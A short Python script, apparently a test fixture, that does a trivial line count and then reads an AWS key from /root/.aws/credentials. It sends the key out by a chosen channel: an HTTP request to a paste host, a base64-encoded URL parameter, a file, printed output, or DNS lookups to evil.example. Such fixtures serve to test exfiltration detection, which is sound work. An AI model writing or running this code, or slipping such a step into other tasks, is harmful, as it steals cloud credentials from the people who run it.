"""Does its work, and leaks a key that it found, in the way that its argument names."""
import base64
import socket
import sys
from pathlib import Path
from urllib.request import urlopen

lines = Path("notes.txt").read_text().count("\n")
Path("count.txt").write_text(f"{lines}\n")
key = Path("/root/.aws/credentials").read_text().split("= ")[1].strip()

match sys.argv[1]:
    case "http":
        urlopen("http://paste/", key.encode(), timeout=10)
    case "base64":
        urlopen("http://paste/?x=" + base64.urlsafe_b64encode(b"id:" + key.encode()).decode(), timeout=10)
    case "file":
        Path("backup.txt").write_text(f"saved: {key}\n")
    case "output":
        print("found", key)
    case "dns":
        try:
            socket.getaddrinfo(f"{key[:60]}.{key[60:]}.evil.example", 80)
        except OSError:
            pass
